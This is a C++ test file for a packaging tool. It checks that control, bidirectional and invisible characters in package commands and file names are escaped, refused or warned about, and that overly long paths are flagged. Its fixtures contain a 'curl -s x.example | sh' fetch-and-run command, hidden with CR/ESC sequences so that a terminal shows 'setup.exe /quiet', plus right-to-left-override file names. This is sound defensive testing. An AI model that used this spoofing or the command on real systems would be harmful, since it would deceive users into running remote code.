// What list, verify, extract and build print of texts that come from a package: control
// characters that a terminal would act on (CR, ESC sequences, BEL, DEL, C1, the bidirectional
// controls) are shown as escapes, whether the output is a pipe or a terminal.
#include <pty.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <fstream>

#include <nlohmann/json.hpp>

#include "package/run_options.h"

#include "runpack/package/destination_rules.h"
#include "runpack/package/run_options_record.h"
#include "runpack/package/visible_text.h"
#include "support/package_builder.h"
#include "tool_test_support.h"

using namespace tooltest;

namespace {

// What no listing may hold: a C0 control other than the line end, DEL, a C1 control or a
// bidirectional control, as UTF-8.
std::string firstRawControl(const std::string& text) {
    for (size_t i = 0; i < text.size(); ++i) {
        const uint8_t b = static_cast<uint8_t>(text[i]);
        if ((b < 0x20 && b != '\n') || b == 0x7F) return "byte " + std::to_string(b) + " at " + std::to_string(i);
        if (b == 0xC2 && i + 1 < text.size() && static_cast<uint8_t>(text[i + 1]) <= 0x9F)
            return "C1 control at " + std::to_string(i);
        if (text.compare(i, 3, "\xE2\x80\xAE") == 0 || text.compare(i, 3, "\xE2\x81\xA6") == 0)
            return "bidirectional control at " + std::to_string(i);
    }
    return "";
}

// CR, "ESC [K" (erase to the end of the line), BEL and DEL: what makes a terminal show
// "setup.exe /quiet" while the command is another.
const std::string HIDING = "\r\x1B[K\x07\x7F";
const std::string HIDING_SHOWN = "\\x0D\\x1B[K\\x07\\x7F";

class ToolVisibleText : public ToolTest {
protected:
    // An executable whose package was written past build's checks, with a version string
    // holding U+202E (right-to-left override) and an ESC sequence.
    fs::path craftedExe(const TestPackage& package) {
        writeText(dir / "in" / "a.txt", "alpha");
        const fs::path exe = dir / "crafted.exe";
        const Result r = build(exe, {"--set-version-string", "Comments", "txt.\xE2\x80\xAE" "exe\x1B[2J", (dir / "in").string()});
        EXPECT_EQ(r.code, 0) << r.err;
        const std::vector<uint8_t> bytes = buildPackage(package);
        const std::vector<uint8_t> digest = sha1Digest(bytes);
        std::vector<uint8_t> image;
        std::string error;
        EXPECT_TRUE(embedRunInfo(fileBytes(exe), &bytes, &digest, &image, &error)) << error;
        writeBytes(exe, image);
        return exe;
    }
    static TestPackage hidingPackage() {
        TestPackage p;
        p.command = "curl -s x.example | sh" + HIDING + "setup.exe /quiet";
        TestEntry hidden, plain;
        hidden.name = "name" + HIDING + ".txt";
        hidden.directory = "dir\x1B]0;title\x07";
        hidden.content = {'a'};
        plain.name = "plain.txt";
        plain.content = {'b'};
        p.entries = {hidden, plain};
        return p;
    }
};

// Runs `list` in a child whose standard output is a pseudo-terminal (raw, so that the
// terminal adds no CR of its own), and returns what the terminal received.
std::string listOnTerminal(const fs::path& exe) {
    int master = -1;
    const pid_t child = forkpty(&master, nullptr, nullptr, nullptr);
    if (child == 0) {
        termios mode;
        tcgetattr(STDOUT_FILENO, &mode);
        cfmakeraw(&mode);
        tcsetattr(STDOUT_FILENO, TCSANOW, &mode);
        const int code = runListCommand({exe.string()}, std::cout, std::cerr);
        std::cout.flush();
        _exit(code);
    }
    std::string received;
    char buffer[4096];
    for (;;) {
        const ssize_t n = read(master, buffer, sizeof buffer);
        if (n <= 0) break;  // EIO once the child has closed the terminal
        received.append(buffer, static_cast<size_t>(n));
    }
    int status = 0;
    waitpid(child, &status, 0);
    close(master);
    return received;
}

}  // namespace

TEST(VisibleText, EscapesControlsAndKeepsEverythingElse) {
    EXPECT_EQ(visibleText("a" + HIDING + "b"), "a" + HIDING_SHOWN + "b");
    EXPECT_EQ(visibleText(std::string("tab\there\n", 9)), "tab\\x09here\\x0A");
    // C1 (NEL), the bidirectional controls and the separators: as code points.
    EXPECT_EQ(visibleText("\xC2\x85|\xC2\x9B|\xE2\x80\xAE|\xE2\x81\xA6|\xE2\x80\x8F|\xD8\x9C|\xE2\x80\xA8"),
              "\\u0085|\\u009B|\\u202E|\\u2066|\\u200F|\\u061C|\\u2028");
    // Letters of any script, symbols and backslashes pass; bytes that are not UTF-8 do not.
    const std::string letters = "C:\\Program Files\\P\xC5\x99\xC3\xADli\xC5\xA1 \xE6\x97\xA5 \xF0\x9F\x93\xA6 \xE2\x82\xAC";
    EXPECT_EQ(visibleText(letters), letters);
    EXPECT_EQ(visibleText("a\xC0\xAF\xE2\x80z\xFF"), "a\\xC0\\xAF\\xE2\\x80z\\xFF");
    EXPECT_EQ(visibleText("\xED\xA0\x80"), "\\xED\\xA0\\x80");  // an encoded surrogate
    EXPECT_EQ(visibleText("\xC5\x99\x01", true), "\\u0159\\x01");
}

TEST(VisibleText, FindsTheFirstControlCharacter) {
    std::string which;
    EXPECT_FALSE(findControlCharacter("setup.exe /quiet \xC5\x99 \xE2\x82\xAC", &which));
    EXPECT_FALSE(findControlCharacter("bad \xC0\xAF"));  // not UTF-8: the converter refuses it
    EXPECT_TRUE(findControlCharacter("a\x1B[K\x07", &which));
    EXPECT_EQ(which, "\\x1B");
    EXPECT_TRUE(findControlCharacter("abc\xE2\x80\xAEtxt", &which));
    EXPECT_EQ(which, "\\u202E");
    EXPECT_TRUE(findControlCharacter(std::string("\0", 1)));
}

TEST(VisibleText, JsonKeepsItsValueAndLosesTheRawControls) {
    const std::string value = "a\x7F\xC2\x9B" "b\xE2\x80\xAE\xE2\x81\xA9\x1B[K\r\xC5\x99";
    const nlohmann::ordered_json original = {{"k\xE2\x80\xAE", value}};
    const std::string dumped = escapeJsonControls(original.dump(2));
    EXPECT_EQ(firstRawControl(dumped), "");
    EXPECT_NE(dumped.find("\\u007f\\u009b"), std::string::npos) << dumped;
    EXPECT_NE(dumped.find("\xC5\x99"), std::string::npos) << dumped;  // letters stay as they are
    EXPECT_EQ(nlohmann::ordered_json::parse(dumped), original);
}

TEST_F(ToolVisibleText, ListShowsEscapesOnAPipeAndOnATerminalAlike) {
    const fs::path exe = craftedExe(hidingPackage());
    const Result piped = list(exe);
    EXPECT_EQ(piped.code, 0) << piped.err;
    EXPECT_EQ(firstRawControl(piped.out), "") << piped.out;
    EXPECT_NE(piped.out.find("command: \"curl -s x.example | sh" + HIDING_SHOWN + "setup.exe /quiet\"\n"),
              std::string::npos) << piped.out;
    EXPECT_NE(piped.out.find("WARNING: the command holds a control character (\\x0D)"), std::string::npos);
    // The entry with control characters is marked refused, with the reason.
    EXPECT_NE(piped.out.find("dir\\x1B]0;title\\x07\\name" + HIDING_SHOWN + ".txt  (refused: a part holds a control character)"),
              std::string::npos) << piped.out;
    EXPECT_NE(piped.out.find("WARNING: 1 file(s) have a destination the engine refuses"), std::string::npos);
    EXPECT_NE(piped.out.find("Comments: txt.\\u202Eexe\\x1B[2J\n"), std::string::npos) << piped.out;

    EXPECT_EQ(listOnTerminal(exe), piped.out);

    const Result json = list(exe, {"--json"});
    EXPECT_EQ(firstRawControl(json.out), "") << json.out;
    const nlohmann::json parsed = nlohmann::json::parse(json.out);
    EXPECT_EQ(parsed["command"], "curl -s x.example | sh" + HIDING + "setup.exe /quiet");
    EXPECT_EQ(parsed["commandHasControlCharacter"], true);
    EXPECT_EQ(parsed["files"][0]["name"], "name" + HIDING + ".txt");
    EXPECT_EQ(parsed["files"][0]["refusedByEngine"], true);
    EXPECT_EQ(parsed["files"][1]["refusedByEngine"], false);
    EXPECT_EQ(parsed["refusedByEngine"], 1);
    EXPECT_EQ(parsed["version"]["strings"]["040904B0"]["Comments"], "txt.\xE2\x80\xAE" "exe\x1B[2J");
}

TEST_F(ToolVisibleText, VerifyAndExtractFailAndQuoteEscaped) {
    const fs::path exe = craftedExe(hidingPackage());
    const Result v = verify(exe);
    EXPECT_EQ(v.code, 1);
    EXPECT_EQ(firstRawControl(v.err), "") << v.err;
    EXPECT_NE(v.err.find("runpack verify: the command holds a control character (\\x0D): \"curl"), std::string::npos) << v.err;
    EXPECT_NE(v.err.find("runpack verify: entry 0 (dir\\x1B]0;title\\x07\\name" + HIDING_SHOWN +
                         ".txt): the engine refuses this destination: a part holds a control character\n"),
              std::string::npos) << v.err;
    const Result x = extract(exe, dir / "out");
    EXPECT_EQ(x.code, 1);
    EXPECT_EQ(firstRawControl(x.err), "") << x.err;
    EXPECT_FALSE(fs::exists(dir / "out"));

    // A command alone is enough for verify to fail.
    TestPackage commandOnly;
    commandOnly.command = "run\x1B[8mhidden";
    const Result c = verify(craftedExe(commandOnly));
    EXPECT_EQ(c.code, 1);
    EXPECT_NE(c.err.find("the command holds a control character (\\x1B): \"run\\x1B[8mhidden\""), std::string::npos) << c.err;
}

TEST_F(ToolVisibleText, BuildRefusesControlsAndQuotesThemEscaped) {
    writeText(dir / "a.txt", "alpha");
    const std::string a = (dir / "a.txt").string();
    const fs::path out = dir / "out.exe";
    struct Case {
        std::vector<std::string> args;
        std::string message;
    };
    const std::vector<Case> cases = {
        {{"-c", "setup.exe /quiet" + HIDING, a}, "command \"setup.exe /quiet" + HIDING_SHOWN + "\" holds a control character (\\x0D)"},
        {{"-c", "run \xE2\x80\xAEtxt.exe", a}, "holds a control character (\\u202E)"},
        {{"--to", "sub\x1B[Kdir", a}, "\"sub\\x1B[Kdir\" has a control character (\\x1B)"},
        {{"--to", "C:\\dir\xC2\x9B", a}, "has a control character (\\u009B)"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.message);
        const Result r = build(out, c.args);
        EXPECT_NE(r.code, 0);
        EXPECT_NE(r.err.find(c.message), std::string::npos) << r.err;
        EXPECT_EQ(firstRawControl(r.err), "") << r.err;
        EXPECT_FALSE(fs::exists(out));
    }
    // Names from a manifest and found in a directory.
    writeText(dir / "m.json", R"({"files": [{"source": "a.txt", "name": "a\u202e.txt", "directory": "d"}]})");
    const Result m = build(out, {"--manifest", (dir / "m.json").string()});
    EXPECT_EQ(m.code, 1);
    EXPECT_NE(m.err.find("\"a\\u202E.txt\" has a control character (\\u202E)"), std::string::npos) << m.err;
    writeText(dir / "tree" / ("bell\x07" "file\r.txt"), "x");
    const Result t = build(out, {(dir / "tree").string()});
    EXPECT_EQ(t.code, 1);
    EXPECT_EQ(firstRawControl(t.err), "") << t.err;
    EXPECT_NE(t.err.find("bell\\x07file\\x0D.txt"), std::string::npos) << t.err;
}

TEST(LongPaths, TypicalLengthCountsTheWorkingDirectoryOrTheVariable) {
    EXPECT_EQ(typicalDestinationLength("a.txt"), TYPICAL_WORK_DIR_LENGTH + 5);
    EXPECT_EQ(typicalDestinationLength("%APPDATA%\\x\\a.txt"), TYPICAL_WORK_DIR_LENGTH + 8);
    EXPECT_EQ(typicalDestinationLength("C:\\x\\a.txt"), 10u);
    EXPECT_EQ(typicalDestinationLength("\\\\srv\\share\\a.txt"), 17u);
    const std::string justFits(LONG_PATH_LIMIT - TYPICAL_WORK_DIR_LENGTH, 'a');
    EXPECT_EQ(longPathWarning(justFits, "x"), "");
    EXPECT_NE(longPathWarning(justFits + "b", "x"), "");
    EXPECT_EQ(longPathWarning("C:\\" + std::string(LONG_PATH_LIMIT - 3, 'a'), "x"), "");
    EXPECT_NE(longPathWarning("C:\\" + std::string(LONG_PATH_LIMIT - 2, 'a'), "x"), "");
}

TEST_F(ToolVisibleText, BuildAndListWarnOfPathsTooLongForManyPrograms) {
    // 248 characters below the working directory: the engine extracts it, many programs
    // cannot open it there.
    const std::string deep = std::string(120, 'd') + "/" + std::string(120, 'e');
    writeText(dir / "in" / "short.txt", "s");
    const fs::path out = dir / "long.exe";
    const Result b = build(out, {"--to", deep, (dir / "in" / "short.txt").string()});
    ASSERT_EQ(b.code, 0) << b.err;
    const std::string shownPath = std::string(120, 'd') + "\\" + std::string(120, 'e') + "\\short.txt";
    EXPECT_EQ(b.err, "runpack build: warning: " + (dir / "in" / "short.txt").string() + ": \"" + shownPath +
                         "\" is about 311 characters long on the user's machine (with a working directory of a usual "
                         "length), more than the 259 that many Windows programs can open\n");
    const Result l = list(out);
    EXPECT_EQ(l.code, 0);
    EXPECT_NE(l.out.find("WARNING: \"" + shownPath + "\" is about 311 characters long"), std::string::npos) << l.out;
    EXPECT_EQ(nlohmann::json::parse(list(out, {"--json"}).out)["files"][0]["longPath"], true);
    EXPECT_EQ(verify(out).code, 0);  // a warning, not a refusal

    const Result shortOne = build(dir / "short.exe", {(dir / "in" / "short.txt").string()});
    EXPECT_EQ(shortOne.err, "");
    EXPECT_EQ(list(dir / "short.exe").out.find("characters long"), std::string::npos);
}

// Characters that render as nothing: U+200B, U+200C, U+200D, U+2060, U+FEFF, U+00AD, U+3164,
// U+180E and U+2063, then a tag character beyond the basic plane (U+E0041).
const std::string INVISIBLE = "\xE2\x80\x8B\xE2\x80\x8C\xE2\x80\x8D\xE2\x81\xA0\xEF\xBB\xBF\xC2\xAD\xE3\x85\xA4"
                              "\xE1\xA0\x8E\xE2\x81\xA3\xF3\xA0\x81\x81";
const std::string INVISIBLE_SHOWN =
    "\\u200B\\u200C\\u200D\\u2060\\uFEFF\\u00AD\\u3164\\u180E\\u2063\\U000E0041";

TEST(VisibleText, EscapesWhatRendersAsNothing) {
    EXPECT_EQ(visibleText("set" + INVISIBLE + "up.exe"), "set" + INVISIBLE_SHOWN + "up.exe");
    for (char32_t c : {0x00ADu, 0x034Fu, 0x061Cu, 0x115Fu, 0x17B4u, 0x180Bu, 0x200Bu, 0x2064u, 0x206Fu, 0xFE00u,
                       0xFE0Fu, 0xFEFFu, 0xFFA0u, 0xFFF9u, 0x1D173u, 0xE0001u, 0xE01EFu, 0xE0FFFu}) {
        EXPECT_TRUE(isInvisibleCodePoint(c)) << std::hex << static_cast<unsigned>(c);
    }
    // Their visible neighbours are not.
    for (char32_t c : {0x00ACu, 0x00AEu, 0x2010u, 0x2070u, 0x3165u, 0xFEFEu, 0xFFFCu, 0x1F4E6u, 0xE1000u, 0x10FFFFu}) {
        EXPECT_FALSE(isInvisibleCodePoint(c)) << std::hex << static_cast<unsigned>(c);
    }
    std::string which;
    EXPECT_TRUE(findInvisibleCharacter("setup\xEF\xBB\xBF.exe", &which));
    EXPECT_EQ(which, "\\uFEFF");
    EXPECT_FALSE(findInvisibleCharacter("setup.exe \xC5\x99 \xE2\x82\xAC", &which));
}

TEST(VisibleText, InvisibleSetAgreesWithTheUnicodeData) {
    // Every format character of UnicodeData.txt, and every Default_Ignorable_Code_Point of
    // DerivedCoreProperties.txt, is escaped.
    std::ifstream data("/usr/share/unicode/UnicodeData.txt");
    std::ifstream derived("/usr/share/unicode/DerivedCoreProperties.txt");
    if (!data || !derived) GTEST_SKIP() << "no /usr/share/unicode (Debian's unicode-data)";
    std::vector<bool> expected(0x110000, false);
    std::string line;
    while (std::getline(data, line)) {
        const size_t first = line.find(';');
        if (line.compare(line.find(';', first + 1) + 1, 3, "Cf;") == 0) expected[std::stoul(line.substr(0, first), nullptr, 16)] = true;
    }
    while (std::getline(derived, line)) {
        if (line.find("; Default_Ignorable_Code_Point") == std::string::npos || line[0] == '#') continue;
        const unsigned long from = std::stoul(line, nullptr, 16);
        const size_t dots = line.find("..");
        const unsigned long to = dots != std::string::npos && dots < line.find(';') ? std::stoul(line.substr(dots + 2), nullptr, 16) : from;
        for (unsigned long c = from; c <= to; ++c) expected[c] = true;
    }
    size_t wrong = 0;
    for (char32_t c = 0; c < 0x110000; ++c) {
        if (isInvisibleCodePoint(c) != expected[c] && ++wrong <= 5) ADD_FAILURE() << std::hex << "U+" << static_cast<unsigned>(c);
    }
    EXPECT_EQ(wrong, 0u);
}

TEST_F(ToolVisibleText, ListVerifyAndExtractShowInvisibleCharactersEscaped) {
    TestPackage p;
    p.command = "set\xE2\x80\x8Bup.exe /quiet";
    TestEntry e;
    e.name = "read" + INVISIBLE + "me.txt";
    e.content = {'a'};
    p.entries = {e};
    // Names and command in UTF-8, as the run options say.
    const fs::path exe = craftedExe(p);
    const std::vector<uint8_t> bytes = buildPackage(p);
    const std::vector<uint8_t> digest = sha1Digest(bytes);
    const std::vector<uint8_t> options = encodeRunOptions(RUN_UTF8_NAMES);
    std::vector<uint8_t> image;
    std::string error;
    ASSERT_TRUE(embedRunInfo(fileBytes(exe), &bytes, &digest, &image, &error, &options)) << error;
    writeBytes(exe, image);

    const Result shown = list(exe);
    EXPECT_EQ(shown.code, 0) << shown.err;
    EXPECT_NE(shown.out.find("command: \"set\\u200Bup.exe /quiet\"\n"), std::string::npos) << shown.out;
    EXPECT_NE(shown.out.find("  read" + INVISIBLE_SHOWN + "me.txt\n"), std::string::npos) << shown.out;
    EXPECT_EQ(shown.out.find("\xE2\x80\x8B"), std::string::npos);
    EXPECT_EQ(listOnTerminal(exe), shown.out);

    const Result json = list(exe, {"--json"});
    EXPECT_NE(json.out.find("\"set\\u200bup.exe /quiet\""), std::string::npos) << json.out;
    EXPECT_NE(json.out.find("\\udb40\\udc41"), std::string::npos) << json.out;  // U+E0041
    EXPECT_EQ(json.out.find("\xE2\x80\x8B"), std::string::npos);
    const nlohmann::json parsed = nlohmann::json::parse(json.out);
    EXPECT_EQ(parsed["command"], *p.command);
    EXPECT_EQ(parsed["files"][0]["name"], *e.name);

    // verify passes (the package is sound) and extract writes the file under its exact name;
    // what they quote of it is escaped.
    EXPECT_EQ(verify(exe).code, 0);
    const Result x = extract(exe, dir / "out");
    EXPECT_EQ(x.code, 0) << x.err;
    EXPECT_TRUE(fs::exists(dir / "out" / *e.name));
}

TEST_F(ToolVisibleText, BuildRefusesInvisibleCharactersInTheCommandAndInNames) {
    writeText(dir / "a.txt", "alpha");
    const std::string a = (dir / "a.txt").string();
    const fs::path out = dir / "out.exe";
    const Result c = build(out, {"-c", "set\xE2\x80\x8Bup.exe", a});
    EXPECT_EQ(c.code, 1);
    EXPECT_NE(c.err.find("command \"set\\u200Bup.exe\" holds an invisible character (\\u200B)"), std::string::npos) << c.err;
    const Result to = build(out, {"--to", "to\xC2\xADols", a});
    EXPECT_EQ(to.code, 1);
    EXPECT_NE(to.err.find("\"to\\u00ADols\" has an invisible character (\\u00AD)"), std::string::npos) << to.err;
    writeText(dir / "tree" / "set\xEF\xBB\xBFup.exe", "x");
    const Result t = build(out, {(dir / "tree").string()});
    EXPECT_EQ(t.code, 1);
    EXPECT_NE(t.err.find("has an invisible character (\\uFEFF)"), std::string::npos) << t.err;
    EXPECT_EQ(t.err.find("\xEF\xBB\xBF"), std::string::npos) << t.err;
    EXPECT_FALSE(fs::exists(out));
}
